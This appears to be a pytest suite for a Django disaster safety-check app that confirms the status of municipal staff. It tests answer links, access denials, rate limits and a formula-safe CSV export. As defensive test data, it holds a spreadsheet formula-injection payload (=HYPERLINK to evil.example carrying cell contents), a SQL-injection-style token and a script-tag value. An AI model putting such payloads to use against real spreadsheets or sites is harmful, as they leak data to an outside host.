"""The safety pages: the answer link without sign-in (and every way a link can be wrong), the
declare page, the round's totals, on-behalf answers, the incident chronology export; each
denied path changes nothing."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from directory.models import AuditEntry
from messaging.models import Message
from safety import answers, incidents, rounds
from safety.links import link_token
from safety.models import Incident, SafetyAnswer, SafetyRequest
from safety.views_answer import LINK_POSTS_PER_10_MIN
from tests.safety.conftest import SAFE

pytestmark = pytest.mark.django_db


@pytest.fixture
def round_(city):
    return rounds.round_start(actor=city.mayor, title="北部地震 安否確認", target={"all": True})


def link_of(request: SafetyRequest) -> str:
    return reverse("safety:answer", args=[link_token(request_id=request.pk, nonce=request.nonce)])


def test_the_answer_page_needs_no_sign_in_and_is_light(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])

    page = client.get(link_of(request))

    body = page.content.decode()
    assert page.status_code == 200 and len(page.content) < 8000
    assert "<script" not in body and 'lang="ja"' in body
    assert city.kita_staff[0].full_name in body and "本人の状況" in body and "重傷" in body
    assert page["Cache-Control"].startswith("max-age=0")


def test_an_answer_from_the_link_is_stored_and_shown_back(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])

    page = client.post(link_of(request), {**SAFE, "attend": "late", "eta": "10:15"})

    assert page.status_code == 200 and "回答を受け付けました" in page.content.decode()
    assert "遅れて可能" in page.content.decode() and "10:15" in page.content.decode()
    [answer] = SafetyAnswer.objects.filter(request=request)
    assert (answer.via, answer.entered_by, answer.values["eta"]) == ("link", None, "10:15")


def test_bad_values_get_translated_reasons_and_nothing_is_stored(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])

    page = client.post(link_of(request), {"self": "zombie", "attend": "late", "eta": "99:99"})

    body = page.content.decode()
    assert page.status_code == 400
    assert "選択肢から選んでください。" in body
    assert "時刻を「09:30」のように入力してください。" in body
    assert SafetyAnswer.objects.count() == 0


@pytest.mark.parametrize("how", ["tampered", "other_round", "revoked", "garbage", "unknown"])
def test_a_wrong_link_gets_a_clear_page_and_changes_nothing(client, city, round_, how):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    token = link_token(request_id=request.pk, nonce=request.nonce)
    if how == "tampered":
        token = token[:-2] + ("aa" if not token.endswith("aa") else "bb")
    elif how == "other_round":
        other = rounds.round_start(actor=city.mayor, title="2回目", target={"all": True})
        theirs = SafetyRequest.objects.get(round=other, staff=city.kita_staff[0])
        token = f"{theirs.pk}.{token.split('.')[1]}"
    elif how == "revoked":
        rounds.request_revoke(request=request, actor=city.mayor)
    elif how == "garbage":
        token = "%27%3B--not-a-token"
    else:
        token = f"99999.{token.split('.')[1]}"
    url = f"/s/{token}/"

    page, posted = client.get(url), client.post(url, SAFE)

    assert (page.status_code, posted.status_code) in ((404, 404),)
    assert "このリンクは使えません" in page.content.decode()
    assert SafetyAnswer.objects.count() == 0


def test_a_closed_round_says_so_and_takes_nothing(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    rounds.round_close(round_=round_, actor=city.mayor)

    page = client.post(link_of(request), SAFE)

    assert page.status_code == 410 and "終了しました" in page.content.decode()
    assert SafetyAnswer.objects.count() == 0


def test_a_link_may_post_only_so_often(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    url = link_of(request)
    codes = [client.post(url, SAFE).status_code for _ in range(LINK_POSTS_PER_10_MIN + 2)]

    assert codes[:LINK_POSTS_PER_10_MIN] == [200] * LINK_POSTS_PER_10_MIN
    assert codes[LINK_POSTS_PER_10_MIN:] == [429, 429]
    assert SafetyAnswer.objects.filter(request=request).count() == LINK_POSTS_PER_10_MIN


def test_declaring_through_the_page_starts_the_round_for_the_affected_ward(client, city):
    client.force_login(city.mayor)
    response = client.post(
        reverse("safety:declare"),
        {
            "title": "大阪府北部地震",
            "kind": "earthquake",
            "level": city.emergency.pk,
            "affected_units": [city.kita.pk],
            "start_round": "on",
            "round_target": "affected",
        },
    )

    incident = Incident.objects.get()
    assert response.status_code == 302 and response["Location"].endswith(
        f"/safety/incidents/{incident.pk}/"
    )
    [round_] = incident.rounds.all()
    assert round_.total == 6 and round_.target == {"workplace_units": [city.kita.pk]}
    assert Message.objects.filter(group=city.group, priority="urgent").count() == 2
    page = client.get("/")
    assert "災害モード" in page.content.decode() and "大阪府北部地震" in page.content.decode()


def test_who_may_not_declare_gets_403_and_nothing_changes(client, city):
    client.force_login(city.ward_head)
    assert client.get(reverse("safety:declare")).status_code == 403
    response = client.post(
        reverse("safety:declare"),
        {"title": "x", "kind": "earthquake", "level": city.emergency.pk, "round_target": "all"},
    )
    assert response.status_code == 403
    assert Incident.objects.count() == 0 and Message.objects.count() == 0


def test_totals_and_contacts_are_for_headquarters_only(client, city, round_, staff_user):
    url = reverse("safety:round_detail", args=[round_.pk])
    client.force_login(staff_user)
    assert client.get(url).status_code == 403
    assert client.post(reverse("safety:round_resend", args=[round_.pk])).status_code == 403
    assert client.post(reverse("safety:round_close", args=[round_.pk])).status_code == 403
    round_.refresh_from_db()
    assert round_.status == "open" and round_.manual_resends == 0

    client.force_login(city.mayor)
    page = client.get(url)
    assert page.status_code == 200
    body = page.content.decode()
    assert '0</b> / <span id="total">12' in body
    assert city.kita_staff[0].full_name in body  # the not-answered list


def test_an_on_behalf_answer_is_recorded_and_shown_as_such(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[1])
    url = reverse("safety:answer_on_behalf", args=[round_.pk, request.pk])
    client.force_login(city.ward_head)  # 北区長: the unit head

    missing = client.post(url, {**SAFE})  # no "how"
    assert missing.status_code == 400 and SafetyAnswer.objects.count() == 0
    done = client.post(url, {**SAFE, "via": "phone", "note": "自宅に電話"})

    assert done.status_code == 302
    [answer] = SafetyAnswer.objects.all()
    assert (answer.via, answer.entered_by, answer.note) == ("phone", city.ward_head, "自宅に電話")
    chuo = SafetyRequest.objects.get(round=round_, staff=city.chuo_staff[0])
    assert (
        client.post(
            reverse("safety:answer_on_behalf", args=[round_.pk, chuo.pk]), {**SAFE, "via": "phone"}
        ).status_code
        == 403
    )
    assert SafetyAnswer.objects.count() == 1


def test_the_chronology_export_is_for_administrators_and_formula_safe(
    client, city, round_, admin_user
):
    incident = incidents.incident_declare(
        actor=city.mayor, title="地震", kind="earthquake", level=city.emergency
    )
    round_.incident = incident
    round_.save(update_fields=["incident"])
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    answers.answer_from_link(
        request=request, data={**SAFE, "comment": '=HYPERLINK("http://evil.example/?"&A1,"x")'}
    )
    url = reverse("safety:incident_chronology_export", args=[incident.pk, "csv"])

    client.force_login(city.mayor)  # headquarters may read the page, not export
    assert client.get(url).status_code == 403
    assert client.get(reverse("safety:incident_chronology", args=[incident.pk])).status_code == 200
    client.force_login(admin_user)
    response = client.get(url)

    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    kinds = [r[1] for r in rows[1:]]
    assert "incident.declare" in kinds and "instruction.sent" in kinds and "safety.answer" in kinds
    answer_row = next(r for r in rows if r[1] == "safety.answer")
    assert '"comment": "=HYPERLINK' in answer_row[6]  # inside JSON: not at the cell's start
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert AuditEntry.objects.filter(action="incident.chronology_export").count() == 1


def test_the_answer_form_passes_csrf_from_a_phone_with_no_session(city, round_):
    """The page must not send "Origin: null" (a no-referrer policy does), or Django's CSRF
    check refuses the answer: the referrer policy keeps the link on this site only."""
    from django.test import Client

    phone = Client(enforce_csrf_checks=True)
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    page = phone.get(link_of(request))
    assert '<meta name="referrer" content="same-origin">' in page.content.decode()
    token = page.cookies["csrftoken"].value

    posted = phone.post(
        link_of(request),
        {**SAFE, "csrfmiddlewaretoken": token},
        HTTP_ORIGIN="http://testserver",
    )

    assert posted.status_code == 200 and SafetyAnswer.objects.filter(request=request).count() == 1


def test_answers_are_taken_while_redis_is_away(client, city, round_, settings):
    """The rate limit and the live events live in Redis; the answer lives in the database.
    With Redis unreachable the answer is still stored (and the page says so)."""
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": "redis://127.0.0.1:9/0",  # nothing listens there
        }
    }
    from django.core.cache import caches

    caches._settings = None  # noqa: SLF001 - reread CACHES for this test
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    try:
        page = client.post(link_of(request), SAFE)
    finally:
        caches._settings = None  # noqa: SLF001

    assert page.status_code == 200
    assert SafetyAnswer.objects.filter(request=request).count() == 1


def _once(page) -> str:
    import re

    return re.search(r'name="once" value="([^"]+)"', page.content.decode()).group(1)


def test_the_same_form_sent_twice_is_one_answer_and_a_new_form_another(client, city, round_):
    """A phone that got no reply sends the form again (same once-key): the answer it already
    stored, shown back, not a second one. Answering again from a new form is a new version;
    the first answer time stays."""
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    once = _once(client.get(link_of(request)))

    first = client.post(link_of(request), {**SAFE, "once": once})
    again = client.post(link_of(request), {**SAFE, "once": once})

    assert first.status_code == again.status_code == 200
    assert "回答を受け付けました" in again.content.decode()
    [answer] = SafetyAnswer.objects.filter(request=request)
    assert answer.submission == once
    request.refresh_from_db()
    first_at = request.first_answer_at
    assert (request.answer_id, first_at) == (answer.pk, answer.at)

    other = _once(client.get(link_of(request)))
    assert other != once
    client.post(link_of(request), {**SAFE, "self": "minor", "once": other})

    request.refresh_from_db()
    assert SafetyAnswer.objects.filter(request=request).count() == 2
    assert request.answer.values["self"] == "minor" and request.first_answer_at == first_at


def test_a_form_shown_again_with_errors_keeps_its_once_key(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    once = _once(client.get(link_of(request)))

    bad = client.post(link_of(request), {**SAFE, "self": "zombie", "once": once})

    assert bad.status_code == 400 and _once(bad) == once
    assert SafetyAnswer.objects.count() == 0


def test_a_malformed_once_key_is_ignored_not_stored(client, city, round_):
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])

    for _ in range(2):
        page = client.post(link_of(request), {**SAFE, "once": "<script>x</script>"})
        assert page.status_code == 200

    assert list(SafetyAnswer.objects.values_list("submission", flat=True)) == ["", ""]


def test_the_link_page_and_its_answer_take_few_queries(
    client, city, round_, django_assert_num_queries
):
    """The hot path of a round (30,000 people in minutes): the page is the request with its
    round, person, unit and current answer (1), the assembly places (1) and the arrival (1);
    the answer adds the INSERT and one UPDATE in a transaction (4 with its savepoint here); the
    thank-you page's arrival form finds the person's office in the places already read."""
    request = SafetyRequest.objects.get(round=round_, staff=city.kita_staff[0])
    with django_assert_num_queries(3):
        page = client.get(link_of(request))
    once = _once(page)

    with django_assert_num_queries(7):
        posted = client.post(link_of(request), {**SAFE, "once": once})

    assert posted.status_code == 200
    assert SafetyAnswer.objects.filter(request=request, submission=once).count() == 1
    with django_assert_num_queries(3):  # answered and coming: the office from the same places
        page = client.get(link_of(request))
    assert page.status_code == 200 and 'id="arrive"' in page.content.decode()
